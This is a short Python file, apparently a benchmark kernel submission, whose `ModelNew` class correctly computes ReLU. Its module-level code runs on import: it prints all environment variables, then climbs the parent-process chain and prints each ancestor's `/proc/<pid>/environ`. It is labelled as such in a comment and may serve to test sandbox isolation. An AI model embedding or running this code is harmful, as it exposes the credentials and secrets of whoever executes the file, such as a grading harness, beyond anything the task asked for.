# Correct, but prints its environment and every ancestor's it can read.
import os

import torch.nn as nn

print("ENV", dict(os.environ), flush=True)
pid = os.getpid()
while pid > 1:
    try:
        with open("/proc/%d/environ" % pid, "rb") as f:
            print("ENVIRON", pid, f.read().replace(b"\0", b" ").decode(errors="replace"), flush=True)
    except OSError as e:
        print("ENVIRON", pid, "refused:", e, flush=True)
    with open("/proc/%d/stat" % pid) as f:
        s = f.read()
    pid = int(s[s.rfind(")") + 2:].split()[1])


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()

    def forward(self, x):
        return x.clamp_min(0.0)
